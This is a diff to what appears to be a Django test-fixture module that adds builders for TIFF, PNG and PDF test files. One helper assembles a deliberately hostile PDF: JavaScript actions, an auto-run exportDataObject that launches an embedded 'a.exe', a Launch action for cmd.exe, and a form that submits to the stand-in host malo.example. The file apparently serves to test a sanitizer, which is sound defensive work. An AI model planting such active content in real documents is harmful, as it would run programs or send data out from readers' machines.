@@ -3,8 +3,10 @@
 import hashlib
 import io
 import json
+from pathlib import Path
 
 import factory
+from django.conf import settings
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -135,3 +137,120 @@ def hash_sin_clave(entrada) -> str:
     }
     canonico = json.dumps(contenido, sort_keys=True, ensure_ascii=False, separators=(",", ":"))
     return hashlib.sha256(canonico.encode()).hexdigest()
+
+
+def tiff_bytes(tamanos, compresion="tiff_deflate") -> bytes:
+    """A multi-page TIFF, one page per (width, height)."""
+    hojas = [Image.new("L", tamano, 255) for tamano in tamanos]
+    salida = io.BytesIO()
+    hojas[0].save(salida, "TIFF", save_all=True, append_images=hojas[1:], compression=compresion)
+    return salida.getvalue()
+
+
+def tiff_con_pagina_danada(paginas: int, danada: int) -> bytes:
+    """A TIFF whose page `danada` (1-based) has garbage instead of compressed pixels."""
+    contenido = bytearray(tiff_bytes([(300, 300)] * paginas))
+    with Image.open(io.BytesIO(bytes(contenido))) as imagen:
+        imagen.seek(danada - 1)
+        tiras = zip(imagen.tag_v2[273], imagen.tag_v2[279], strict=True)  # offsets, counts
+        for inicio, largo in tiras:
+            contenido[inicio : inicio + largo] = b"\x13" * largo
+    return bytes(contenido)
+
+
+def imagen_ruido_bytes(lado: int, semilla: int = 0) -> bytes:
+    """A valid PNG that does not compress: about lado * lado bytes."""
+    import random
+
+    azar = random.Random(semilla)
+    imagen = Image.frombytes("L", (lado, lado), azar.randbytes(lado * lado))
+    salida = io.BytesIO()
+    imagen.save(salida, "PNG")
+    return salida.getvalue()
+
+
+def pdf_pikepdf(construir=None, cajas=((612, 792),)) -> bytes:
+    """A PDF with visible text and a black box on each page; `construir(pdf)` may add more."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name
+
+    pdf = pikepdf.new()
+    fuente = pdf.make_indirect(
+        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+    )
+    for ancho, alto in cajas:
+        hoja = pdf.add_blank_page().obj
+        hoja.MediaBox = Array([0, 0, ancho, alto])  # any size, even one the spec forbids
+        hoja.Resources = Dictionary(Font=Dictionary(F1=fuente))
+        hoja.Contents = pdf.make_stream(
+            b"0 0 0 rg 72 500 200 60 re f BT /F1 24 Tf 72 650 Td (Solicitud de prueba) Tj ET"
+        )
+    if construir is not None:
+        construir(pdf)
+    salida = io.BytesIO()
+    pdf.save(salida)
+    return salida.getvalue()
+
+
+def con_contenido_activo(pdf) -> None:
+    """JavaScript, automatic actions, a Launch link, embedded files and an XFA form: what
+    a hostile PDF carries. A web link (URI) and the visible page stay."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name, String
+
+    def js(codigo):
+        return Dictionary(S=Name.JavaScript, JS=String(codigo))
+
+    hoja = pdf.pages[0].obj
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(
+            Names=Array([String("inicio"), pdf.make_indirect(js("app.alert(1)"))])
+        )
+    )
+    pdf.Root.OpenAction = js("this.exportDataObject({cName: 'a.exe', nLaunch: 2})")
+    pdf.Root.AA = Dictionary(WC=js("app.alert(2)"))
+    hoja.AA = Dictionary(O=js("app.alert(3)"))
+    lanzar = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=Array([72, 72, 200, 100]),
+        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Next=js("app.alert(4)")),
+    )
+    enlace = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=Array([72, 120, 200, 140]),
+        A=Dictionary(S=Name.URI, URI=String("https://www.example.gob.mx/tramites")),
+    )
+    adjunto = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.FileAttachment,
+        Rect=Array([400, 700, 420, 720]),
+        FS=pikepdf.AttachedFileSpec(pdf, b"Documento anexo", filename="b.doc").obj,
+    )
+    boton = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Widget,
+        FT=Name.Btn,
+        T=String("enviar"),
+        Rect=Array([300, 72, 400, 100]),
+        A=Dictionary(S=Name.SubmitForm, F=String("https://malo.example/recibir")),
+        AA=Dictionary(E=js("app.alert(5)")),
+    )
+    boton = pdf.make_indirect(boton)
+    hoja.Annots = Array([pdf.make_indirect(a) for a in (lanzar, enlace, adjunto)] + [boton])
+    pdf.Root.AcroForm = Dictionary(Fields=Array([boton]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
+    pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ programa", filename="a.exe")
+
+
+def sobrescribir_guardado(archivo, contenido: bytes) -> None:
+    """Replace a stored file's bytes: a row kept from before a check existed."""
+    storage, nombre = archivo.archivo.file.storage, archivo.archivo.file.name
+    with open(storage.path(nombre), "wb") as fichero:
+        fichero.write(contenido)
+
+
+def archivos_privados() -> set[Path]:
+    """Every file in private storage (scans and answers)."""
+    raiz = Path(settings.PRIVATE_MEDIA_ROOT)
+    return {p for p in raiz.rglob("*") if p.is_file()} if raiz.exists() else set()
